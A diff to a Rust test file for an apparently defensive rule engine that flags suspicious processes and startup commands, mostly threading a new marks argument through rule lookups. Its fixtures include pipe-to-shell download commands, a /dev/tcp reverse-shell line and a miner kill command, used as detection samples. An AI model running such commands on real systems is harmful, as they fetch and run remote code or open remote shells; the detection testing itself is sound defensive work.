@@ -1,7 +1,7 @@
 use super::*;
 use crate::report::{Body, Index, Report};
 
-fn report(json: &str) -> Report {
+pub(super) fn report(json: &str) -> Report {
     let body = Body::in_memory(json.as_bytes().to_vec());
     let index = Index::of(&body).unwrap();
     Report::new(body, index)
@@ -12,7 +12,8 @@ fn marks(json: &str) -> Vec<String> {
     let (rules, problems) = Rules::read(None);
     assert_eq!(problems, Vec::<String>::new());
     let report = report(json);
-    let found: Vec<_> = rules.of_row(&report, 0, 0).into_iter().map(|rule| rule.id.clone()).collect();
+    let found: Vec<_> =
+        rules.of_row(&report, &Marks::default(), 0, 0).into_iter().map(|rule| rule.id.clone()).collect();
     let whole = rules.judge(&report, &|| true).unwrap();
     let best = whole.rule(0, 0).and_then(|rule| rules.rule(rule)).map(|rule| rule.id.clone());
     let noise = found.first().filter(|_| whole.noise().contains(0, 0)).cloned();
@@ -204,7 +205,7 @@ fn a_parent_tells_in_the_tree_wherever_its_name_stands() {
         let marks = rules.judge(&found, &|| true).unwrap();
         let id = |row| marks.rule(0, row).and_then(|rule| rules.rule(rule)).map(|rule| rule.id.as_str());
         assert_eq!([id(1), id(3), id(5)], [Some("office-child"), None, Some("odd-svchost")]);
-        assert_eq!(rules.of_row(&found, 0, 1)[0].id, "office-child");
+        assert_eq!(rules.of_row(&found, &Marks::default(), 0, 1)[0].id, "office-child");
     }
 }
 
@@ -215,7 +216,7 @@ fn a_mistake_in_the_users_file_is_named_with_its_line_and_the_rest_works() {
     assert_eq!(problems.len(), 1);
     assert!(problems[0].starts_with("rules.toml, line 8: the regular expression is wrong"), "{problems:?}");
     let found = report(r#"{"strange":["an ourmarker here"]}"#);
-    assert_eq!(rules.of_row(&found, 0, 0)[0].id, "mine");
+    assert_eq!(rules.of_row(&found, &Marks::default(), 0, 0)[0].id, "mine");
     let (_, problems) = Rules::read(Some(("rules.toml", "x = [\n")));
     assert!(problems[0].contains("line 2") || problems[0].contains("line 1"), "{problems:?}");
     let (_, problems) = Rules::read(Some(("r", "[[rule]]\nid='a'\nseverity='loud'\nname='a'\nwhy='a'\nany=['b']\n")));
@@ -228,7 +229,7 @@ fn what_marks_a_long_row_is_named_beside_it() {
         Rules::read(Some(("r", "[[rule]]\nid='mine'\nseverity='high'\nname='a'\nwhy='b'\nall=['ourmarker']\n")));
     let found = report(&format!(r#"{{"strange":["{} ourmarker"]}}"#, "x".repeat(20_000)));
     assert!(rules.judge(&found, &|| true).unwrap().rule(0, 0).is_some());
-    assert_eq!(rules.of_row(&found, 0, 0)[0].id, "mine");
+    assert_eq!(rules.of_row(&found, &Marks::default(), 0, 0)[0].id, "mine");
 }
 
 #[test]
@@ -240,7 +241,7 @@ fn a_rule_wants_no_more_texts_at_once_than_are_told_apart() {
     let text = (0..65).map(|n| format!("t{n:03}")).collect::<String>();
     let (rules, problems) = Rules::read(Some(("r", &rule(64))));
     assert!(problems.is_empty(), "{problems:?}");
-    assert_eq!(rules.of_row(&report(&format!(r#"{{"strange":["{text}"]}}"#)), 0, 0)[0].id, "mine");
+    assert_eq!(rules.of_row(&report(&format!(r#"{{"strange":["{text}"]}}"#)), &Marks::default(), 0, 0)[0].id, "mine");
     let (_, problems) = Rules::read(Some(("r", &rule(65))));
     assert!(problems[0].contains("65 texts") && problems[0].contains("64"), "{problems:?}");
 }
@@ -301,7 +302,7 @@ fn what_starts_by_itself_is_marked_on_every_system() {
         (command, "launchctl load /Library/LaunchDaemons/x.plist", "start-command"),
         (command, "curl -s http://203.0.113.9/x | sh", "pipe-to-shell"),
         (command, "wget -qO- http://203.0.113.9/x|sudo /bin/bash", "pipe-to-shell"),
-        (command, "curl http://203.0.113.9/x | show", ""),
+        (command, "curl http://203.0.113.9/x | show", "bare-address"),
         (command, "base64 -d /tmp/x | sh", "pipe-to-shell"),
         (command, "bash -c 'exec 5<>/dev/tcp/203.0.113.8/4444'", "network-shell"),
         (command, "pkill -9 xmrig", ""),
